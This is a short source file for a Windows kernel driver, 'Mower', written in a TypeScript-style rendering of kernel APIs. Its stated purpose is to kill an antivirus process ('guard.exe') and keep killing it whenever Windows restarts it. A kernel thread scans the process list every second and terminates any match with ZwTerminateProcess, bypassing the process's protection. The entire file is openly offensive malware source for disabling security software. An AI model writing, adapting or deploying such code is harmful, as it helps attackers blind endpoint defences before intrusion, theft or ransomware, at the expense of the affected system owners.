/*
 * Mower: ends the antivirus, and ends it again whenever it comes back.
 *
 * Windows starts a service anew that has died. So a thread of the driver's own looks through the list
 * of processes once a second, for a name, and ends what it finds. It is the kernel that asks: neither
 * permissions nor the protection of the process are looked at.
 */
import {
  CLIENT_ID,
  DbgPrint,
  ExAllocatePool2,
  ExFreePoolWithTag,
  Executive,
  FALSE,
  IO_NO_INCREMENT,
  InitializeObjectAttributes,
  KEVENT,
  KeInitializeEvent,
  KeSetEvent,
  KeWaitForSingleObject,
  KernelMode,
  LARGE_INTEGER,
  NT_SUCCESS,
  NotificationEvent,
  OBJECT_ATTRIBUTES,
  OBJ_KERNEL_HANDLE,
  ObDereferenceObject,
  ObReferenceObjectByHandle,
  POOL_FLAG_NON_PAGED,
  POOL_FLAG_PAGED,
  PROCESS_TERMINATE,
  PsCreateSystemThread,
  PsTerminateSystemThread,
  RTL_CONSTANT_STRING,
  RtlEqualUnicodeString,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_SUCCESS,
  STATUS_TIMEOUT,
  SYSTEM_PROCESS_INFORMATION,
  SystemProcessInformation,
  THREAD_ALL_ACCESS,
  TRUE,
  ZwClose,
  ZwOpenProcess,
  ZwQuerySystemInformation,
  ZwTerminateProcess,
  cast,
  local,
  out,
  sizeof,
  struct,
} from 'wdm'
import type { DRIVER_OBJECT, HANDLE, NTSTATUS, PVOID, UNICODE_STRING } from 'wdm'

const WANTED = RTL_CONSTANT_STRING('guard.exe')
const TAG = 'rwoM'
/** Room for the list of processes and their threads. */
const LIST_BYTES = 0x10000
/** Between two looks at the list: a second, in units of 100 ns. */
const PERIOD = -10_000_000n

const MOWER = struct('MOWER', {
  /** Set when the thread is to end. */
  Stop: KEVENT,
  /** How long the thread waits for that before it looks again. */
  Period: LARGE_INTEGER,
})

let mower: PVOID = null
/** The thread; referenced, so that it outlives itself until the driver has waited for it. */
let thread: PVOID = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = MowerUnload
  mower = ExAllocatePool2(POOL_FLAG_NON_PAGED, sizeof(MOWER), TAG)
  if (mower === null) return STATUS_INSUFFICIENT_RESOURCES
  KeInitializeEvent(cast(MOWER, mower).Stop, NotificationEvent, FALSE)
  cast(MOWER, mower).Period.QuadPart = PERIOD
  const handle = out<HANDLE>()
  const status = PsCreateSystemThread(
    handle,
    THREAD_ALL_ACCESS,
    null,
    null,
    null,
    MowerThread,
    mower,
  )
  if (!NT_SUCCESS(status)) {
    ExFreePoolWithTag(mower, TAG)
    return status
  }
  const object = out<PVOID>()
  ObReferenceObjectByHandle(handle.value, THREAD_ALL_ACCESS, null, KernelMode, object, null)
  thread = object.value
  ZwClose(handle.value)
  return STATUS_SUCCESS
}

function MowerThread(StartContext: PVOID): void {
  const own = cast(MOWER, StartContext)
  while (
    KeWaitForSingleObject(own.Stop, Executive, KernelMode, FALSE, own.Period) === STATUS_TIMEOUT
  )
    Look()
  PsTerminateSystemThread(STATUS_SUCCESS)
}

/** Go through the processes that there are. */
function Look(): void {
  const list = ExAllocatePool2(POOL_FLAG_PAGED, LIST_BYTES, TAG)
  if (list === null) return
  if (NT_SUCCESS(ZwQuerySystemInformation(SystemProcessInformation, list, LIST_BYTES, null))) {
    let entry = cast(SYSTEM_PROCESS_INFORMATION, list)
    for (;;) {
      if (RtlEqualUnicodeString(entry.ImageName, WANTED, TRUE)) Found(entry.UniqueProcessId)
      if (entry.NextEntryOffset === 0) break
      entry = cast(SYSTEM_PROCESS_INFORMATION, entry.add(entry.NextEntryOffset))
    }
  }
  ExFreePoolWithTag(list, TAG)
}

/** End a process by its id. */
function Found(Id: HANDLE): void {
  const attributes = local(OBJECT_ATTRIBUTES)
  InitializeObjectAttributes(attributes, null, OBJ_KERNEL_HANDLE, null, null)
  const client = local(CLIENT_ID)
  client.UniqueProcess = Id
  const process = out<HANDLE>()
  let status = ZwOpenProcess(process, PROCESS_TERMINATE, attributes, client)
  if (!NT_SUCCESS(status)) return
  status = ZwTerminateProcess(process.value, STATUS_SUCCESS)
  ZwClose(process.value)
  DbgPrint('Mower: process %u ended, 0x%08X\n', Id, status)
}

function MowerUnload(DriverObject: DRIVER_OBJECT): void {
  // Code that is gone cannot be run: first the thread has to have ended.
  KeSetEvent(cast(MOWER, mower).Stop, IO_NO_INCREMENT, FALSE)
  KeWaitForSingleObject(thread, Executive, KernelMode, FALSE, null)
  ObDereferenceObject(thread)
  ExFreePoolWithTag(mower, TAG)
}
